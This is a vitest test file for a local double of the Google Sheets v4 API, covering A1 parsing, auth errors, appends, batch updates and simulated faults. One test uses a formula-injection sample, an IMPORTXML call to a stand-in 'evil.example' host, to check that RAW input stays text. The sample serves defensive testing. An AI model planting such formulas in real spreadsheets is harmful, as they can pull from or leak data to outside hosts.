import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { formatA1, parseA1 } from "./a1-notation.ts";
import { type SheetsDouble, startSheetsDouble } from "./sheets-double.ts";

/** The double spoken to over plain HTTP, as Google would be: what the store relies on must hold here. */

let double: SheetsDouble;

async function api(method: string, path: string, body?: unknown, token: string | null = "t") {
  const response = await fetch(new URL(path, double.rootUrl), {
    method,
    headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...(body ? { "content-type": "application/json" } : {}) },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  // biome-ignore lint/suspicious/noExplicitAny: the double's JSON answers, asserted field by field by each test.
  return { status: response.status, json: (await response.json()) as any };
}

const values = (range: string, query = "") => `/v4/spreadsheets/${double.sheetId}/values/${encodeURIComponent(range)}${query}`;

beforeEach(async () => {
  double = await startSheetsDouble();
});
afterEach(() => double.close());

describe("A1 notation", () => {
  test("parses quoted titles, cells, columns and rows", () => {
    expect(parseA1("'Buone prassi'!A1")).toEqual({ title: "Buone prassi", startRow: 0, endRow: 1, startColumn: 0, endColumn: 1 });
    expect(parseA1("'Sant''Agata'!B:C")).toEqual({ title: "Sant'Agata", startColumn: 1, endColumn: 3 });
    expect(parseA1("Riunioni!2:5")).toEqual({ title: "Riunioni", startRow: 1, endRow: 5 });
    expect(parseA1("Referenti")).toEqual({ title: "Referenti" });
    expect(formatA1("Buone prassi", 0, 0, 3, 10)).toBe("'Buone prassi'!A1:J3");
    expect(formatA1("Riunioni", 4, 2, 5, 3)).toBe("Riunioni!C5");
  });
});

describe("Sheets v4 double", () => {
  test("a request without a bearer token gets Google's 401", async () => {
    const { status, json } = await api("GET", `/v4/spreadsheets/${double.sheetId}`, undefined, null);
    expect(status).toBe(401);
    expect(json.error).toMatchObject({ code: 401, status: "UNAUTHENTICATED" });
  });

  test("with callers required: an unknown token is a 401, an account the sheet is not shared with a 403", async () => {
    const accounts: Record<string, string> = { "ya29.a": "editor@p.iam.gserviceaccount.com", "ya29.b": "other@p.iam.gserviceaccount.com" };
    double.requireCallers((token) => accounts[token], ["editor@p.iam.gserviceaccount.com"]);
    const sheet = `/v4/spreadsheets/${double.sheetId}`;
    const unknown = await api("GET", sheet, undefined, "ya29.forged");
    expect([unknown.status, unknown.json.error.status]).toEqual([401, "UNAUTHENTICATED"]);
    const notShared = await api("GET", sheet, undefined, "ya29.b");
    expect([notShared.status, notShared.json.error]).toEqual([
      403,
      { code: 403, message: "The caller does not have permission", status: "PERMISSION_DENIED" },
    ]);
    expect((await api("GET", sheet, undefined, "ya29.a")).status).toBe(200);
    expect(double.requests.map((request) => request.caller)).toEqual([
      undefined,
      "other@p.iam.gserviceaccount.com",
      "editor@p.iam.gserviceaccount.com",
    ]);
  });

  test("an unknown spreadsheet is a 404 NOT_FOUND", async () => {
    const { status, json } = await api("GET", "/v4/spreadsheets/nope");
    expect([status, json.error.status]).toEqual([404, "NOT_FOUND"]);
  });

  test("batchGet omits trailing empty cells and rows, and renders gaps as empty strings", async () => {
    double.setGrid("Riunioni", [["ID", "Data", null, "Note"], [null, 46406, null, null], [], [null, null, "x"], [null, null]]);
    const query = new URLSearchParams({ valueRenderOption: "UNFORMATTED_VALUE", dateTimeRenderOption: "SERIAL_NUMBER" });
    query.append("ranges", "'Riunioni'");
    query.append("ranges", "Foglio1");
    const { json } = await api("GET", `/v4/spreadsheets/${double.sheetId}/values:batchGet?${query}`);
    expect(json.valueRanges[0]).toEqual({
      range: "Riunioni!A1:Z1000",
      majorDimension: "ROWS",
      values: [["ID", "Data", "", "Note"], ["", 46406], [], ["", "", "x"]],
    });
    expect(json.valueRanges[1]).toEqual({ range: "Foglio1!A1:Z1000", majorDimension: "ROWS" });
  });

  test("RAW keeps a formula-looking string as text; USER_ENTERED makes it a formula and parses dates", async () => {
    double.setGrid("Buone prassi", [["Titolo", "Data"]]);
    const row = ['=IMPORTXML("https://evil.example","//a")', "20/01/2027"];
    await api("POST", values("'Buone prassi'!A1", ":append?valueInputOption=RAW&insertDataOption=INSERT_ROWS"), { values: [row] });
    await api("POST", values("'Buone prassi'!A1", ":append?valueInputOption=USER_ENTERED&insertDataOption=INSERT_ROWS"), { values: [row] });
    const [, raw, entered] = double.grid("Buone prassi");
    expect(raw).toEqual([{ value: row[0] }, { value: "20/01/2027" }]);
    expect(entered).toEqual([{ value: null, formula: row[0] }, { value: 46407 }]);
  });

  test("append from A1 stops at the first blank row, as Google's table detection does", async () => {
    double.setGrid("Riunioni", [["ID"], ["m-1"], [null], ["m-2"]]);
    const { json } = await api("POST", values("Riunioni!A1", ":append?valueInputOption=RAW&insertDataOption=INSERT_ROWS"), {
      values: [["m-3"]],
    });
    expect(json.tableRange).toBe("Riunioni!A1:A2");
    expect(json.updates).toMatchObject({ updatedRange: "Riunioni!A3", updatedRows: 1 });
    // INSERT_ROWS pushed the blank row and m-2 down rather than overwriting them.
    expect(double.values("Riunioni")).toEqual([["ID"], ["m-1"], ["m-3"], [], ["m-2"]]);
  });

  test("append anchored below the data lands after the last row", async () => {
    double.setGrid("Riunioni", [["ID"], ["m-1"], [null], ["m-2"]]);
    const { json } = await api("POST", values("Riunioni!A5", ":append?valueInputOption=RAW&insertDataOption=INSERT_ROWS"), {
      values: [["m-3", null, "x"]],
    });
    expect(json.updates.updatedRange).toBe("Riunioni!A5:C5");
    expect(double.values("Riunioni")).toEqual([["ID"], ["m-1"], [], ["m-2"], ["m-3", null, "x"]]);
  });

  test("values:batchUpdate writes every range or none (grid limits checked first)", async () => {
    double.setGrid("Referenti", [
      ["ID", "Nome"],
      [null, "Sara"],
    ]);
    const body = (range: string) => ({
      valueInputOption: "RAW",
      data: [
        { range: "Referenti!A2", values: [["r-1"]] },
        { range, values: [["x"]] },
      ],
    });
    const bad = await api("POST", `/v4/spreadsheets/${double.sheetId}/values:batchUpdate`, body("Referenti!AA1"));
    expect(bad.status).toBe(400);
    expect(bad.json.error.message).toMatch(/exceeds grid limits/);
    expect(double.values("Referenti")[1]).toEqual([null, "Sara"]);
    const good = await api("POST", `/v4/spreadsheets/${double.sheetId}/values:batchUpdate`, body("Referenti!C2"));
    expect(good.json.totalUpdatedCells).toBe(2);
    expect(double.values("Referenti")[1]).toEqual(["r-1", "Sara", "x"]);
  });

  test("spreadsheets:batchUpdate is all-or-nothing and keeps what tests assert on", async () => {
    const url = `/v4/spreadsheets/${double.sheetId}:batchUpdate`;
    const failed = await api("POST", url, {
      requests: [{ addSheet: { properties: { title: "Riunioni" } } }, { addSheet: { properties: { title: "Foglio1" } } }],
    });
    expect(failed.status).toBe(400);
    expect(double.tabTitles()).toEqual(["Foglio1"]);

    const ok = await api("POST", url, { requests: [{ addSheet: { properties: { title: "Riunioni" } } }] });
    const sheetId = ok.json.replies[0].addSheet.properties.sheetId as number;
    const column = { sheetId, startColumnIndex: 0, endColumnIndex: 1 };
    const rule = { condition: { type: "ONE_OF_LIST", values: [{ userEnteredValue: "Urgente" }] }, showCustomUi: true };
    await api("POST", url, {
      requests: [
        {
          updateSheetProperties: {
            properties: { sheetId, gridProperties: { frozenRowCount: 1 } },
            fields: "gridProperties.frozenRowCount",
          },
        },
        { setDataValidation: { range: column, rule } },
        { setDataValidation: { range: column, rule } },
        { addProtectedRange: { protectedRange: { range: column, warningOnly: true } } },
      ],
    });
    expect(double.tabProperties("Riunioni")?.gridProperties.frozenRowCount).toBe(1);
    expect(double.dataValidations).toHaveLength(1);
    expect(double.protectedRanges).toEqual([{ protectedRangeId: expect.any(Number), range: column, warningOnly: true }]);
    const { json } = await api("GET", `/v4/spreadsheets/${double.sheetId}`);
    expect(json.sheets[1].protectedRanges).toHaveLength(1);
    expect(json.properties.timeZone).toBe("Europe/Rome");
  });

  test("faults: an error status, a drop before and a drop after the write was applied", async () => {
    double.setGrid("Riunioni", [["ID"]]);
    double.failNext(1, { status: 429, match: "read" });
    const limited = await api("GET", `/v4/spreadsheets/${double.sheetId}`);
    expect(limited.status).toBe(429);
    expect(limited.json.error).toMatchObject({
      code: 429,
      status: "RESOURCE_EXHAUSTED",
      message: expect.stringMatching(/^Quota exceeded/),
    });

    const append = () =>
      api("POST", values("Riunioni!A1", ":append?valueInputOption=RAW&insertDataOption=INSERT_ROWS"), { values: [["m-1"]] });
    double.dropConnections(1, { match: "append" });
    await expect(append()).rejects.toThrow();
    expect(double.values("Riunioni")).toEqual([["ID"]]);
    double.dropAfterApply(1, { match: "append" });
    await expect(append()).rejects.toThrow();
    expect(double.values("Riunioni")).toEqual([["ID"], ["m-1"]]);
    expect(double.requests.map((request) => request.operation)).toEqual(["get", "append", "append"]);
  });
});
